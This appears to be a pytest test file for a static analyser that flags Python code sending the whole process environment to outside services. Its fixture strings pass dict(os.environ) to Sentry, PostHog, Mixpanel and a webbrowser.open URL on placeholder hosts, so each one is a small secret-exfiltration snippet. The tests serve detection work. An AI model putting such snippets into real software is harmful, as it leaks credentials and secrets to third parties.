"""Clients of services that collect events."""

import pytest

from pratique.analysis.facts import Capability, Taint
from tests.analysis.languages.python.reading import facts, flows

START = "import os, sentry_sdk\nsentry_sdk.init(dsn='https://abc123@o1.far.invalid/1')\n"


@pytest.mark.parametrize(
    ("source", "api"),
    [
        (f"{START}sentry_sdk.set_context('e', dict(os.environ))", "sentry_sdk.set_context"),
        (
            f"{START}with sentry_sdk.push_scope() as s:\n  for k, v in os.environ.items(): s.set_extra(k, v)",
            "sentry_sdk.push_scope.set_extra",
        ),
        (
            "import os, webbrowser\nwebbrowser.open('https://h.invalid/?' + repr(dict(os.environ)))",
            "webbrowser.open",
        ),
        ("import os, posthog\nposthog.capture('me', 'start', dict(os.environ))", "posthog.capture"),
        (
            "import os\nfrom mixpanel import Mixpanel\nMixpanel('k').track('me', 'start', dict(os.environ))",
            "mixpanel.Mixpanel.track",
        ),
    ],
)
def test_the_whole_environment_told_to_one_is_sent(source: str, api: str) -> None:
    assert (Capability.NETWORK, api, {Taint.ENVIRONMENT, Taint.WHOLE_ENVIRONMENT}) in flows(source)


def test_whose_the_service_is_says_nothing() -> None:
    found = facts(
        f"{START}sentry_sdk.capture_message(str(os.environ))".replace("o1.far.invalid", "o1.ingest.sentry.io")
    )
    assert [None] == [flow.target for flow in found.flows]


@pytest.mark.parametrize(
    "source",
    [
        f"{START}sentry_sdk.set_tag('env', os.environ.get('APP_ENV'))",
        f"{START}sentry_sdk.capture_message('started')",
        "import os, sentry_sdk\nsentry_sdk.init(dsn=os.environ['DSN'])\nsentry_sdk.set_context('e', dict(os.environ))",
    ],
    ids=["one variable", "a constant", "the account of who uses it"],
)
def test_what_programs_tell_of_themselves_is_not(source: str) -> None:
    assert [] == [flow for flow in flows(source) if flow[0] is Capability.NETWORK]
